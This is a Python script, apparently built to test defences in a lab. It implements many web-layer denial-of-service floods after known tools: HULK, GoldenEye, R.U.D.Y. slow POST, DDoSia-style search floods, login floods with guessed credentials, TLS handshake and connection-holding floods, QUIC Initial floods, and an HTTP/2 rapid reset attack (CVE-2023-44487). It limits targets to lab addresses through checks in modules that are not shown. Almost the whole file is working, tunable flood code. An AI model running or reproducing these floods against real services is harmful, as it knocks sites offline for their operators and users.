"""Floods of the web layer that no packaged tool sends, written after what the tools are known to do; `floods.py ROLE [options]`.

They go to the lab's own addresses only, from addresses of the lab; see the check in `main`.
"""

import argparse
import asyncio
import random
import ssl
import string

import h2.config
import h2.connection
import h2.events

import namespace
from browser import FAILURES, LANGUAGES, NAME, TLS, V4, V6, Browser, agent, room

WORDS = ("agenda vote committee minister budget energy housing farmer border climate school hospital pension railway amendment plenary hearing petition election results "
         "member party speaker report protocol fisheries defence digital privacy water forest tax airport museum canal bridge harbour market tunnel village region").split()


def noise(rng, low, high, letters=string.ascii_letters + string.digits):
    return "".join(rng.choice(letters) for _ in range(rng.randint(low, high)))


class Flood:
    """Addresses, paces and connections that all roles share."""

    def __init__(self, options):
        self.o, self.rng = options, random.Random(f"{options.role}{options.seed}")
        self.sources = [self.address() for _ in range(options.hosts)]
        self.agents = [agent(self.rng) for _ in range(40)]
        self.sent = 0

    def address(self):
        if self.rng.random() < self.o.ipv6:
            return f"2001:db8:ffff:{self.rng.randrange(256):x}::{self.rng.getrandbits(16):x}:{self.rng.randrange(1, 65535):x}"
        return f"198.18.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"

    async def pace(self, make):
        """`make()` at Poisson times; with --on and --off in pulses."""
        loop = asyncio.get_running_loop()
        begun = loop.time()
        while True:
            await asyncio.sleep(self.rng.expovariate(self.o.rate))
            if self.o.off and (loop.time() - begun) % (self.o.on + self.o.off) > self.o.on:
                continue
            self.sent += 1
            asyncio.ensure_future(self.quietly(make()))

    async def quietly(self, work):
        try:
            await work
        except FAILURES:
            pass

    async def connect(self, source, tls=None):
        tls = TLS["h1s"] if tls is None and self.o.scheme == "https" else tls
        return await asyncio.wait_for(asyncio.open_connection(V6 if ":" in source else V4, 443 if tls else 80, local_addr=(source, 0), ssl=tls or None,
                                                              server_hostname=NAME if tls else None), 6)

    async def once(self, request, keep=0):
        """One connection, one request, the answer read to its end or for `timeout` seconds."""
        reader, writer = await self.connect(self.rng.choice(self.sources))
        try:
            writer.write(request)
            await asyncio.wait_for(reader.read(200_000), self.o.timeout)
        finally:
            writer.close()

    def head(self, method, path, fields):
        return (f"{method} {path} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in fields) + "\r\n").encode()


class Hulk(Flood):
    """As HULK does: a random parameter, agent and referrer for each request, no cache, keep-alive asked for and not used."""

    async def run(self):
        await self.pace(self.one)

    def one(self):
        rng = self.rng
        referrer = rng.choice(("http://www.google.com/?q=", "http://www.usatoday.com/search/results?q=", "http://engadget.search.aol.com/search?q=", f"http://{NAME}/")) + noise(rng, 5, 10, string.ascii_uppercase)
        path = f"/?{noise(rng, 3, 10, string.ascii_uppercase)}={noise(rng, 3, 10, string.ascii_uppercase)}"
        return self.once(self.head("GET", path, [("Accept-Encoding", "identity"), ("Host", NAME), ("Keep-Alive", rng.randint(110, 120)), ("User-Agent", rng.choice(self.agents)), ("Accept-Charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7"),
                                                 ("Referer", referrer), ("Cache-Control", "no-cache"), ("Connection", "close")]))


class Golden(Flood):
    """As GoldenEye does: workers that keep their connections, headers in random order, random parameters, no cache."""

    async def run(self):
        await asyncio.gather(*(self.worker() for _ in range(self.o.connections)))

    async def worker(self):
        rng = self.rng
        source = rng.choice(self.sources)
        await asyncio.sleep(rng.uniform(0, 2))
        while True:
            try:
                reader, writer = await self.connect(source)
                for _ in range(rng.randint(30, 200)):
                    parameters = "&".join(f"{noise(rng, 3, 8)}={noise(rng, 3, 20)}" for _ in range(rng.randint(1, 3)))
                    fields = [("User-Agent", rng.choice(self.agents)), ("Cache-Control", rng.choice(("no-cache", "max-age=0"))), ("Accept-Encoding", rng.choice(("identity", "gzip", "*"))),
                              ("Connection", "keep-alive"), ("Keep-Alive", rng.randint(1, 1000)), ("Host", NAME), ("Referer", f"http://{noise(rng, 4, 12, string.ascii_lowercase)}.com/{noise(rng, 2, 9)}")]
                    rng.shuffle(fields)
                    writer.write(self.head("GET", f"/?{parameters}", fields))
                    head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 6)).lower()
                    await reader.readexactly(int(head.split(b"content-length: ")[1].split(b"\r")[0]))
                    await asyncio.sleep(rng.expovariate(self.o.rate / self.o.connections))
                writer.close()
            except FAILURES + (IndexError,):
                await asyncio.sleep(0.3)


class Search(Flood):
    """As DDoSia's targets look: the site's own search with a random word, few agents, from very many addresses."""

    async def run(self):
        self.agents = self.agents[:6]
        await self.pace(self.one)

    def one(self):
        rng = self.rng
        return self.once(self.head("GET", f"/search?q={noise(rng, 6, 12, string.ascii_lowercase + string.digits)}", [("Host", NAME), ("User-Agent", rng.choice(self.agents)), ("Accept", "text/html"),
                                   ("Accept-Language", LANGUAGES[0]), ("Connection", "close")]))


class Words(Flood):
    """Searches that look as people's do: words of the language, filters in the query, HTTP/2, a browser's headers, no assets."""

    async def run(self):
        await self.pace(self.one)

    async def one(self):
        rng = self.rng
        reader = Browser(rng.choice(self.sources), "h2", rng, timeout=self.o.timeout)
        path = f"/search?term={'%20'.join(rng.sample(WORDS, rng.randint(2, 4)))}&year={rng.randint(1998, 2026)}&sort={rng.choice(('date', 'rank'))}&page={rng.randint(1, 60)}"
        await reader.ask([path], f"https://{NAME}/search")
        reader.close()


class Login(Flood):
    """Sign-ins with guessed names: forms, or JSON to an interface with --json."""

    async def run(self):
        await self.pace(self.one)

    def one(self):
        rng = self.rng
        name, secret = noise(rng, 5, 9, string.ascii_lowercase), noise(rng, 8, 12)
        body, kind, path = ((f'{{"user":"{name}","password":"{secret}"}}', "application/json", "/api/login") if self.o.json else (f"name={name}&password={secret}", "application/x-www-form-urlencoded", "/login"))
        return self.once(self.head("POST", path, [("Host", NAME), ("User-Agent", rng.choice(self.agents[:3])), ("Content-Type", kind), ("Content-Length", len(body)), ("Connection", "close")]) + body.encode())


class Likeness(Flood):
    """A fixed page over TLS with a browser's headers; each address asks a few times on one connection and goes."""

    async def run(self):
        await self.pace(self.one)

    async def one(self):
        reader = Browser(self.rng.choice(self.sources), self.rng.choice(("h1s", "h2")), self.rng, timeout=self.o.timeout)
        for _ in range(self.rng.randint(1, 4)):
            await reader.ask([self.o.path], self.rng.choice(("", "https://www.google.com/")))
        reader.close()


class Pulses(Flood):
    """One page again and again from a hundred addresses, in pulses."""

    async def run(self):
        await self.pace(self.one)

    def one(self):
        return self.once(self.head("GET", self.o.path, [("Host", NAME), ("User-Agent", self.agents[0]), ("Connection", "close")]))


class Rudy(Flood):
    """As R.U.D.Y. does: a form that is sent a byte at a time; here with --gap seconds between, from several addresses."""

    async def run(self):
        await asyncio.gather(*(self.worker() for _ in range(self.o.connections)))

    async def worker(self):
        rng = self.rng
        await asyncio.sleep(rng.uniform(0, 6))
        while True:
            try:
                _, writer = await self.connect(rng.choice(self.sources))
                writer.write(self.head("POST", "/contact", [("Host", NAME), ("User-Agent", rng.choice(self.agents)), ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", rng.randint(40_000, 1_000_000)), ("Connection", "keep-alive")]))
                while not writer.is_closing():
                    await asyncio.sleep(rng.uniform(0.6, 1.4) * self.o.gap)
                    writer.write(noise(rng, 1, 1).encode())
                    await writer.drain()
            except FAILURES:
                await asyncio.sleep(1)


class Reset(Flood):
    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS and RST_STREAM at once, in batches, on connections that are opened anew when nginx ends them."""

    async def run(self):
        await asyncio.gather(*(self.worker() for _ in range(self.o.connections)))

    async def worker(self):
        rng = self.rng
        await asyncio.sleep(rng.uniform(0, 1))
        while True:
            try:
                reader, writer = await self.connect(rng.choice(self.sources), TLS["h2"])
                await self.batches(reader, writer)
            except (*FAILURES, h2.exceptions.ProtocolError):
                await asyncio.sleep(0.2)

    async def batches(self, reader, writer):
        rng, link = self.rng, h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        link.initiate_connection()
        writer.write(link.data_to_send())
        stream, who = 1, rng.choice(self.agents)
        drain = asyncio.ensure_future(reader.read(1 << 20))
        for _ in range(self.o.batches):
            for _ in range(self.o.batch):
                path = self.o.path if not self.o.random_paths else f"/news/{rng.randrange(400)}?{noise(rng, 4, 8)}"
                link.send_headers(stream, [(":method", "GET"), (":authority", NAME), (":scheme", "https"), (":path", path), ("user-agent", who)], end_stream=True)
                link.reset_stream(stream, 8)
                stream += 2
            writer.write(link.data_to_send())
            await writer.drain()
            if drain.done():
                if not drain.result():
                    break
                drain = asyncio.ensure_future(reader.read(1 << 20))
            await asyncio.sleep(rng.expovariate(self.o.rate / self.o.connections / self.o.batch))
        writer.close()


class Hello(Flood):
    """A TLS ClientHello, then the connection is closed: the server has signed for nothing."""

    async def run(self):
        await self.pace(self.one)

    async def one(self):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        half = TLS["h2"].wrap_bio(incoming, outgoing, server_hostname=NAME)
        try:
            half.do_handshake()
        except ssl.SSLWantReadError:
            pass
        source = self.rng.choice(self.sources)
        reader, writer = await asyncio.wait_for(asyncio.open_connection(V6 if ":" in source else V4, 443, local_addr=(source, 0)), 6)
        writer.write(outgoing.read())
        await asyncio.wait_for(reader.read(8192), 4)
        writer.close()


class Hold(Flood):
    """Connections to port 443 that are opened and held, and say nothing."""

    async def run(self):
        kept = []

        async def one():
            source = self.rng.choice(self.sources)
            kept.append(await asyncio.wait_for(asyncio.open_connection(V6 if ":" in source else V4, 443, local_addr=(source, 0)), 6))

        await self.pace(one)


class Quic(Flood):
    """QUIC Initials from many addresses. With --forget only the first datagram is sent; otherwise each is a client that begins and goes away."""

    async def run(self):
        await self.pace(self.one)

    async def one(self):
        from aioquic.h3.connection import H3_ALPN
        from aioquic.quic.configuration import QuicConfiguration
        from aioquic.quic.connection import QuicConnection
        loop = asyncio.get_running_loop()
        client = QuicConnection(configuration=QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=NAME, verify_mode=ssl.CERT_NONE))
        client.connect((V4, 443), now=loop.time())

        class Link(asyncio.DatagramProtocol):
            def datagram_received(self, data, addr):
                pass

        source = self.rng.choice(self.sources)
        transport, _ = await loop.create_datagram_endpoint(Link, local_addr=(source, 0), remote_addr=(V4, 443))
        for _ in range(1 if self.o.forget else 2):
            for data, _ in client.datagrams_to_send(now=loop.time()):
                transport.sendto(data)
            if not self.o.forget:
                await asyncio.sleep(0.3)
                client.handle_timer(now=loop.time() + 1)
        transport.close()


class QuicReaders(Flood):
    """Wanted: readers that load pages over HTTP/3."""

    async def run(self):
        await self.pace(self.one)

    async def one(self):
        from aioquic.asyncio.client import connect
        from aioquic.asyncio.protocol import QuicConnectionProtocol
        from aioquic.h3.connection import H3_ALPN, H3Connection
        from aioquic.quic.configuration import QuicConfiguration
        configuration = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=NAME, verify_mode=ssl.CERT_NONE)

        class Client(QuicConnectionProtocol):
            def quic_event_received(self, event):
                if getattr(self, "http", None) is not None:
                    self.http.handle_event(event)

        # aioquic has no way to bind to an address, so these readers share the namespace's own one as behind a NAT.
        async with connect(V4, 443, configuration=configuration, create_protocol=Client) as client:
            client.http = H3Connection(client._quic)  # pylint: disable=protected-access
            for path in ("/", "/assets/site.css", "/assets/app.js", f"/news/{self.rng.randrange(400)}"):
                stream = client._quic.get_next_available_stream_id()  # pylint: disable=protected-access
                client.http.send_headers(stream, [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", NAME.encode()), (b":path", path.encode()), (b"user-agent", self.agents[0].encode())], end_stream=True)
                client.transmit()
                await asyncio.sleep(self.rng.uniform(0.05, 0.8))


ROLES = {"hulk": Hulk, "golden": Golden, "search": Search, "words": Words, "login": Login, "likeness": Likeness, "pulses": Pulses, "rudy": Rudy, "reset": Reset,
         "hello": Hello, "hold": Hold, "quic": Quic, "quic_readers": QuicReaders}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("role", choices=ROLES)
    parser.add_argument("--scheme", choices=("http", "https"), default="http")
    parser.add_argument("--hosts", type=int, default=1)
    parser.add_argument("--ipv6", type=float, default=0.0, help="share of addresses that are IPv6")
    parser.add_argument("--rate", type=float, default=100.0, help="requests or connections a second, over all")
    parser.add_argument("--connections", type=int, default=40)
    parser.add_argument("--path", default="/")
    parser.add_argument("--gap", type=float, default=8.0)
    parser.add_argument("--on", type=float, default=0.0)
    parser.add_argument("--off", type=float, default=0.0)
    parser.add_argument("--batch", type=int, default=20)
    parser.add_argument("--batches", type=int, default=40)
    parser.add_argument("--timeout", type=float, default=5.0)
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--forget", action="store_true")
    parser.add_argument("--random-paths", action="store_true")
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    namespace.require()
    room()
    flood = ROLES[options.role](options)
    try:
        asyncio.run(flood.run())
    except KeyboardInterrupt:
        pass
    print(f"{options.role}: {flood.sent}")


main()
